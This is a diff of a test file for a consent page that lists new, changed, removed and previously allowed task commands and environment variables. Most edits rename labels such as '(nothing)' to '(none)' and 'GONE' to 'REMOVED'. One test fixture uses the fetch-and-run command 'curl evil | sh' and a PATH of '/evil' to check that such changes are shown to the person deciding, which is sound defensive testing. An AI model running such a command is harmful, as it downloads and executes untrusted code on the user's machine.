@@ -131,8 +131,8 @@ describe('the page on which a person decides', () => {
     fc.assert(property, { numRuns: 100 });
   });
 
-  it('E4: says that the content of scripts and env files is not part of it', () => {
-    assert.match(consentPage(setOf(task('a')), undefined, shop), /content of scripts and env files is not part of it/);
+  it('E4: says that it does not look into scripts and env files', () => {
+    assert.match(consentPage(setOf(task('a')), undefined, shop), /does not look into scripts and env files/);
   });
 
   it('tells what is new, changed with its old and new values, gone, and agreed to before', () => {
@@ -150,16 +150,16 @@ describe('the page on which a person decides', () => {
       '      command           curl evil | sh',
       '      command, before   run api',
       '      env.PATH          /evil',
-      '      env.PATH, before  (nothing)',
-      '      user              (nothing)',
+      '      env.PATH, before  (none)',
+      '      user              (none)',
       '      user, before      me',
       '',
-      'GONE',
+      'REMOVED',
       '',
       '  db',
       '      command  run db',
       '',
-      'AGREED TO BEFORE',
+      'ALLOWED BEFORE',
       '',
       '  ui',
       '      command  run ui',
@@ -183,13 +183,13 @@ describe('the page on which a person decides', () => {
         '      env.B          x',
         '      env.B, before  ***',
         '      env.D',
-        '      env.D, before  (nothing)',
+        '      env.D, before  (none)',
         '      env            TOKEN',
-        '      env.C          (nothing)',
+        '      env.C          (none)',
         '      env.C, before  ***',
       ]);
       assert.deepEqual(shown(setOf(), record), [
-        'GONE',
+        'REMOVED',
         '',
         '  api',
         '      command  run api',
@@ -201,7 +201,7 @@ describe('the page on which a person decides', () => {
       ]);
     }
     const words = shown(setOf({ ...before, hash: 'another' }), recordOf(written));
-    assert.ok(words.some((line) => line.endsWith('(the value of a variable is another)')));
+    assert.ok(words.some((line) => line.endsWith('(the value of a variable has changed)')));
   });
 
   it('E4: takes no value that looks like what is written down for the one that it stands for', () => {
@@ -213,7 +213,7 @@ describe('the page on which a person decides', () => {
 
   it('says so where only the value of a variable is another', () => {
     const lines = shown(setOf({ ...task('api'), hash: 'another' }), recordOf(task('api')));
-    assert.ok(lines.includes('      env      (the value of a variable is another)'));
+    assert.ok(lines.includes('      env      (the value of a variable has changed)'));
   });
 
   it('claims no changes after “never”', () => {
